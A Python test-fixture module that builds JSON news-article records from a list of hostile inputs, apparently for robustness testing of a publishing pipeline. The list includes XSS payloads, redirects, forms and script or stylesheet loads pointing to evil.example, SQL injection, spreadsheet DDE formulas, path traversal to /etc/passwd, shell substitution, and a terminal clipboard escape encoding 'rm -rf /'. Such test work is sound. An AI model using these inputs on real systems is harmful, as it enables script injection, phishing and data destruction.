"""Words that try to act -> articles in which they stand wherever an article can put them: one file for each.

Each article is told by the words, quotes them, names them as an outlet, a byline, an address and an id; what is done to
them and by them makes events of them, and claims.
"""

from __future__ import annotations

import json

__all__ = ["WORDS", "article_of"]

# "canary" is what all scripts here would leave behind in a browser: window.__pwned
_PWN = "window.__pwned=1"

WORDS: dict[str, str] = {
    # markup that would run
    "script": f"<script>{_PWN}</script>",
    "image-error": f"\"><img src=x onerror='{_PWN}'>",
    "svg-onload": f"--><svg/onload={_PWN}>",
    "attribute": f"' onfocus='{_PWN}' autofocus onmouseover='{_PWN}' x='",
    "closing-tags": f"</title></style></textarea></template></noscript></svg></p><script>{_PWN}</script>",
    "cdata": f"]]><![CDATA[<script>{_PWN}</script>]]>",
    "details": f"<details open ontoggle={_PWN}><summary>x</summary></details>",
    "frame": f"<iframe srcdoc='<script>parent.{_PWN[7:]}</script>'></iframe><object data='data:text/html,x'></object>",
    "form": "<form action=https://evil.example><button autofocus>Log in again</button></form>",
    "refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example/>",
    "style": "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "entities": f"&lt;script&gt;{_PWN}&lt;/script&gt;&#60;img src=x onerror={_PWN}&#62;",
    "double-encoded": f"%3Cscript%3E{_PWN}%3C/script%3E%253Cscript%253E",
    "utf-7": "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
    # addresses
    "javascript": f"javascript:{_PWN}//",
    "javascript-split": f"java\tscript\n:{_PWN}",
    "data-address": f"data:text/html,<script>{_PWN}</script>",
    "scheme-relative": "//evil.example/x.js",
    "user-in-address": "https://rashomon@evil.example:99999/?a=1&b=2#<svg onload=1>",
    # templates, queries, formats
    "jinja": "{{ 7 * 7 }}{% raw %}{{ ''.__class__.__mro__ }}{% endraw %}{# #}",
    "percent": "%s %(x)s {0} {x!r} ${x} #{x} `x` $(touch pwned)",
    "json": '"},{"layer":"attribution","id":"0"},{"x":"\\u0000\\ud800',
    "csv": '";"x","y"\r\n"=1+1",,\n',
    "sql": "'; DROP TABLE record; -- \" OR 1=1 /*",
    "full-text": '"* NEAR(a b, 2) OR NOT ^x AND {title}: -',
    "glob": "[a-z]* ?? (((( ))) \\ %_",
    "prototype": "__proto__ constructor toString",
    "header": "Courier\r\nSet-Cookie: a=b\r\n\r\n<script>",
    "link-header": '<https://evil.example/>; rel="next", x',
    # spreadsheets
    "formula-equals": '=HYPERLINK("https://evil.example","open me")',
    "formula-plus": "+1+1",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=2+1",
    "formula-wide": "＝1+1",
    "dde": "=cmd|' /C calc'!A0",
    # what hides and reorders
    "right-to-left": "Mallory \u202egnp.exe",
    "isolates": "\u2066\u2067\u2068 Ilm \u2069\u2069\u2069\u2069 \u202c\u202c",
    "arabic-mixed": "נשיא Vell (ايلم) 12-05 \u200f\u061c!",
    "zero-width": "Cou\u200brier\u200d of \u2060Il\ufeffm\u00ad",
    "tags": "Courier" + "".join(chr(0xE0000 + ord(c)) for c in "hidden"),
    "combining": "Z" + "\u0335\u0321\u0310\u033f\u0359\u0353" * 40 + "algo",
    "homoglyphs": "Соuriеr оf Ιlm",
    "wide-and-old": "ﷺ𒐫﷽ 𝔗𝔬𝔪 ＴＯＭ ①",
    "variations": "👩‍👩‍👧‍👦🏳️‍🌈" * 5,
    "non-characters": "Courier \ufdd0\ufffe\U0010ffff of Ilm",
    "line-separators": "Courier\u2028of\u2029Ilm\u0085x\x0by\x0cz",
    # terminals
    "ansi": "\x1b[2J\x1b[31mCourier\x1b]0;title\x1b\\\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x1b\\",
    "c1": "Courier \x9b31m\x9d0;x\x9c of \x90q\x9c",
    "backspaces": "The Courier of Ilm, and of all the villages of its hinterland up to the bridge of Kell\x08 \r Times",
    # names that climb, and addresses of ours
    "climbing": "../../../../etc/passwd",
    "climbing-encoded": "..%2f..%2f..%5c..%5cetc%2fpasswd%00.html",
    "file-address": "file:///etc/passwd",
    "share": "\\\\evil.example\\share\\x",
    "device": "CON",
    "query": "a?story=x&finding=y#z;b=c",
    "permanent-link": "/at/0000000000000000/0-99999999",
    "slashes": "////..;/./articles/%2e%2e/static/room.css",
    # too much of it
    "long": "Ilm" * 1_500,
    "long-word": "x" * 1_200,
    "numbers": "9" * 400 + " dead, 1e999 or -0 or NaN or 0x1F of 10^400",
    "quotes": "“\"«„'‘" * 12,
    "brackets": "([{" * 25,
}  # fmt: skip


# not all the same: a hundred copies of one text would make the reading long, and test nothing that ten do not
TOLD = (
    "{0} said on Monday that the gate of Ilm had been closed by the council of Vell. “{0} is a name that we do not "
    "use,” said Tomas Brell, the minister of works of Vell, in {0} on 5 May.\n\nGuards of {0} shelled the harbour of "
    "Ilm on 5 May 2031, killing 14 people, according to {0}.",
    "“{0} will pay for the bridge,” Marta Ildova, a spokeswoman for {0}, told the Courier. The mayor of {0} denied "
    "it.\n\nOn 4 May 2031 police in {0} arrested 9 farmers, said {0}, who blamed {0}.",
    "According to {0}, the mill of Kell burned down on 3 May 2031 and {0} refused to send firemen. [{0}](javascript:"
    "window.__pwned=1) accused “{0}” of a lie.\n\nAt least 200 bakers marched through {0} demanding bread, {0} said.",
    "The miners of {0} signed an agreement with {0} on Friday, their lawyer announced. “It is {0},” he said.\n\n"
    "{0} had threatened to sue {0} if 31 men were not paid by 2 May 2031, according to people close to {0}.",
)


def article_of(words: str) -> bytes:
    """Return a line of JSON whose article is full of these words."""
    text = TOLD[len(words) % len(TOLD)].format(words)
    fields = {"id": words, "title": words, "outlet": words, "author": [words, words], "url": words, "text": text}
    return json.dumps({**fields, "date": "2031-05-06"}).encode() + b"\n"
